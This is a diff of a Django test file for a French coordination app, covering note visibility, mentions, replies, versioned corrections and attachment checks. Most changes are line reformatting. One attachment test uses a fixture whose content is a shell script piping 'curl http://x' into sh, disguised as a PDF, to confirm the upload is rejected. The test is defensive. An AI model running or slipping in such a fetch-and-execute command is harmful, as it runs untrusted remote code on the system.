@@ -62,7 +62,10 @@ class TestCategories:
     def test_a_restricted_note_is_read_only_by_its_audience(self, network, client):
         referent = actor_for(network.referent)
         services.note_create(
-            referent, person=network.person, category=Category.COORDINATION, body="Entre nous.",
+            referent,
+            person=network.person,
+            category=Category.COORDINATION,
+            body="Entre nous.",
             audience=[network.referent_org],
         )
         client.force_login(network.partner)
@@ -84,7 +87,11 @@ class TestWritingAndMentions:
             response = post_form(
                 client,
                 new_note_url(network),
-                {"body": "Paul, peux-tu rappeler ?", "category": Category.COORDINATION, "mentions": [network.partner.pk]},
+                {
+                    "body": "Paul, peux-tu rappeler ?",
+                    "category": Category.COORDINATION,
+                    "mentions": [network.partner.pk],
+                },
             )
         assert response.status_code == 302
         note = Note.objects.get()
@@ -95,7 +102,9 @@ class TestWritingAndMentions:
         assert "peux-tu" not in message.body and network.person.last_name not in message.body
         assert str(network.person.public_id) in message.body
 
-    def test_a_mention_of_a_note_the_partner_may_not_read_has_no_link(self, network, django_capture_on_commit_callbacks):
+    def test_a_mention_of_a_note_the_partner_may_not_read_has_no_link(
+        self, network, django_capture_on_commit_callbacks
+    ):
         share_health_with_referent(network)
         referent = actor_for(network.referent)
         with django_capture_on_commit_callbacks(execute=True):
@@ -108,7 +117,9 @@ class TestWritingAndMentions:
     def test_a_mention_outside_the_network_is_refused(self, network, client):
         client.force_login(network.referent)
         response = post_form(
-            client, new_note_url(network), {"body": "x", "category": Category.COORDINATION, "mentions": [network.stranger.pk]}
+            client,
+            new_note_url(network),
+            {"body": "x", "category": Category.COORDINATION, "mentions": [network.stranger.pk]},
         )
         assert response.status_code == 422 and not Note.objects.exists()
 
@@ -127,9 +138,13 @@ class TestWritingAndMentions:
         assert "Je préfère le mardi." in client.get(thread_url(network)).content.decode()
 
     def test_a_reply_is_shown_under_its_note(self, network, client):
-        note = services.note_create(actor_for(network.referent), person=network.person, category="COORDINATION", body="Q?")
+        note = services.note_create(
+            actor_for(network.referent), person=network.person, category="COORDINATION", body="Q?"
+        )
         client.force_login(network.partner)
-        url = reverse("coordination:note_reply", kwargs={"public_id": network.person.public_id, "note_id": note.public_id})
+        url = reverse(
+            "coordination:note_reply", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
+        )
         response = post_form(client, url, {"body": "Réponse.", "category": Category.COORDINATION})
         assert response.status_code == 302
         assert Note.objects.get(body="Réponse.").reply_to == note
@@ -137,9 +152,13 @@ class TestWritingAndMentions:
 
 class TestCorrections:
     def test_the_author_corrects_and_the_earlier_text_is_kept(self, network, client):
-        note = services.note_create(actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi")
+        note = services.note_create(
+            actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi"
+        )
         client.force_login(network.referent)
-        url = reverse("coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id})
+        url = reverse(
+            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
+        )
         response = post_form(client, url, {"body": "Mercredi", "category": Category.COORDINATION})
         assert response.status_code == 302
         note.refresh_from_db()
@@ -149,17 +168,27 @@ class TestCorrections:
         assert "Mercredi" in page and "Mardi" in page
 
     def test_someone_else_cannot_correct_it(self, network, client):
-        note = services.note_create(actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi")
+        note = services.note_create(
+            actor_for(network.referent), person=network.person, category="COORDINATION", body="Mardi"
+        )
         client.force_login(network.partner)
-        url = reverse("coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id})
+        url = reverse(
+            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
+        )
         assert client.get(url).status_code == 404
 
     def test_a_correction_from_an_older_version_is_refused(self, network, client):
-        note = services.note_create(actor_for(network.referent), person=network.person, category="COORDINATION", body="A")
+        note = services.note_create(
+            actor_for(network.referent), person=network.person, category="COORDINATION", body="A"
+        )
         client.force_login(network.referent)
-        url = reverse("coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id})
+        url = reverse(
+            "coordination:note_correct", kwargs={"public_id": network.person.public_id, "note_id": note.public_id}
+        )
         page = client.get(url).content.decode()
-        services.note_correct(actor_for(network.referent), note=Note.objects.get(), version=1, body="B", category="COORDINATION")
+        services.note_correct(
+            actor_for(network.referent), note=Note.objects.get(), version=1, body="B", category="COORDINATION"
+        )
         from maillage.core.tests.helpers import guard_fields
 
         response = client.post(url, {**guard_fields(page), "body": "C", "category": Category.COORDINATION})
@@ -172,14 +201,16 @@ class TestAttachments:
     def post_file(self, client, network, content, name):
         upload = io.BytesIO(content)
         upload.name = name
-        return post_form(client, new_note_url(network), {"body": "Voir pièce.", "category": "COORDINATION", "files": upload})
+        return post_form(
+            client, new_note_url(network), {"body": "Voir pièce.", "category": "COORDINATION", "files": upload}
+        )
 
     def test_a_script_renamed_pdf_is_refused_with_a_clear_message(self, network, client):
         client.force_login(network.referent)
         response = self.post_file(client, network, b"#!/bin/sh\ncurl http://x | sh\n", "rapport.pdf")
         assert response.status_code == 422
         assert "rapport.pdf" in response.content.decode()
-        assert "n’est pas un document" in response.content.decode() or "not a document" in response.content.decode()
+        assert "n'est pas un document" in response.content.decode() or "not a document" in response.content.decode()
         assert not Note.objects.exists() and not Attachment.objects.exists()
 
     def test_a_pdf_named_as_an_image_is_refused(self, network, client):
